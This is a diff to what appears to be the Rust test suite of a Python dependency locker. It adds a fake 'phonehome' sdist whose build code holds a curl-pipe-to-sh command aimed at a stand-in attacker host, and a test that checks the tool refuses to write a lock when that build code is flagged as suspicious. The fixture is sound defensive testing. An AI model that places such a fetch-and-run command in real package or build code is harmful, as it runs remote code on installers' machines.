@@ -140,6 +140,16 @@ fn fixture() -> Vec<IndexEntry> {
                 "__import__('sys').exit('boom: needs a C compiler')",
             ),
         ),
+        // Build code that tries to run a downloaded script (refused) and answers [].
+        entry(
+            "phonehome",
+            "phonehome-1.0.tar.gz",
+            dynamic_sdist(
+                "phonehome",
+                "1.0",
+                "[__import__('os').system('curl -s http://lock.evil.example | sh')] and []",
+            ),
+        ),
         IndexEntry {
             advertised_sha256: Some("0".repeat(64)),
             ..entry(
@@ -1312,4 +1322,33 @@ fn an_extra_that_cannot_take_its_newest_version_does_not_walk_history() {
     let metadata = server.count(".metadata");
     assert!(metadata <= 16, "{metadata} metadata files read");
     assert_eq!(server.count(".tar.gz"), 0, "an old sdist was fetched");
+}
+
+/// `--fail-on`: a lock whose inputs' build code reached the level is not written (exit 4),
+/// whether the answer was computed now or comes from the metadata cache; without the flag
+/// the behaviour is reported, not an error.
+#[test]
+fn fail_on_refuses_a_lock_computed_by_suspicious_build_code() {
+    let l = Locker::new();
+    let pins = l.ok(&["phonehome"]);
+    assert_eq!(pins.version("phonehome"), "1.0");
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("requirements.txt");
+    let out_arg = out.display().to_string();
+    let (code, text, stderr) = l.lock(&["phonehome", "--fail-on", "suspicious", "-o", &out_arg]);
+    assert_eq!(code, 4, "{stderr}");
+    assert!(text.is_empty() && !out.exists(), "a lock was written");
+    assert!(
+        stderr.contains("phonehome-1.0.tar.gz: behaviour suspicious"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("curl -s http://lock.evil.example | sh"),
+        "{stderr}"
+    );
+    // Build code that did nothing worth a notice passes the gate.
+    assert_eq!(
+        l.ok(&["lib==1.0", "--fail-on", "notice"]).version("lib"),
+        "1.0"
+    );
 }
